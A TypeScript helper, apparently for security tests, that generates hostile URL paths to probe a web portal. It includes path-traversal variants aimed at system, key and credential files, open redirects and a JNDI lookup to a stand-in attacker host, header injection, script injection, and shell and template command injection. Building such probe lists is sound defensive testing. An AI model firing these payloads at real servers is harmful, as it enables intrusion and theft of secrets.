/** Paths that somebody tries who looks for what is not meant for him. @param path where the portal stands, with a slash at both ends */
export const hostilePaths = (path: string): string[] => {
  const wanted = [
    'etc/passwd',
    'nginx.conf',
    'host/server.conf',
    'logs/access.log',
    'portal.key',
    'SHA256SUMS',
    'install.sh',
    '.git/config',
  ];
  const ups = [
    '../',
    '..%2f',
    '%2e%2e/',
    '%2e%2e%2f',
    '..%5c',
    '..\\',
    '....//',
    '%252e%252e%252f',
    '..;/',
    '%c0%ae%c0%ae/',
    '.%00./',
    '..%00/',
  ];
  const climbs = wanted.flatMap((file) => ups.map((up) => `${path}assets/${up.repeat(4)}${file}`));
  const shallow = wanted.flatMap((file) => ups.slice(0, 6).map((up) => `${path}${up}${file}`));
  // an alias without a slash at its end would open its parent
  const beside = wanted.flatMap((file) => [`${path}assets../${file}`, `${path}assets..%2f${file}`, `${path.slice(0, -1)}../${file}`]);
  const hidden = ['.git/HEAD', '.env', '.htaccess', '.vite/manifest.json', '.DS_Store', '.ssh/id_rsa', '.npmrc', '.well-known/x'].flatMap(
    (file) => [`/${file}`, `${path}${file}`, `${path}assets/${file}`, `${path}texts/${file}`],
  );
  const guessed = [
    'index.html.bak',
    'index.php',
    'config.json~',
    'config.json.br',
    'server-status',
    'nginx_status',
    'stub_status',
    'admin/admin',
    'dist/',
    'src/main.tsx',
    'package.json',
    'node_modules/',
    'assets',
    'assets/',
    'texts',
    'version.json/',
    'index.html/',
    'config.json/x',
  ].flatMap((file) => [`${path}${file}`, `/${file}`]);
  const odd = [
    '//evil.example/',
    '//evil.example/%2e%2e',
    '/\\evil.example',
    '/%5cevil.example',
    'https://evil.example/',
    'http://evil.example/admin',
    `//${path}`,
    '/admin//evil.example',
    '/admin/%0d%0aSet-Cookie:%20a=b',
    '/admin%0d%0aX-Header:%20a',
    '/%0aheader',
    '/admin/\t',
    '/admin/%00',
    '/admin/index.html%00.js',
    '/admin/%',
    '/admin/%zz',
    '/admin/%ff%fe',
    '/admin/<script>alert(1)</script>',
    '/admin/%3cscript%3e',
    "/admin/';ls",
    '/admin/$(id)',
    '/admin/`id`',
    '/admin/{{7*7}}',
    '/admin/${jndi:ldap://evil.example}',
    `/admin/${'a'.repeat(7_000)}`,
    `/admin/${'a/'.repeat(2_000)}`,
    `/admin/${'../'.repeat(500)}etc/passwd`,
    '*',
    '/admin/#/login',
    '/admin/?%00',
    '/admin/index.html?/../../etc/passwd',
    '/admin/;index.html',
    '/ADMIN/',
    '/admin/INDEX.HTML',
    '/admin/./index.html',
    '/admin/x/../index.html',
    '/./admin/',
    '/x/../admin/',
    '/admin/assets/../index.html',
    '/admin/assets/%2e%2e/config.json',
    '/admin/assets/./../version.json',
  ];
  const devices = ['con', 'nul', 'aux', 'com1', 'C:/windows/win.ini', 'proc/self/environ', 'dev/null', 'proc/self/fd/0'].flatMap((file) => [
    `/${file}`,
    `${path}${file}`,
    `${path}assets/${file}`,
  ]);
  return [...climbs, ...shallow, ...beside, ...hidden, ...guessed, ...odd, ...devices];
};
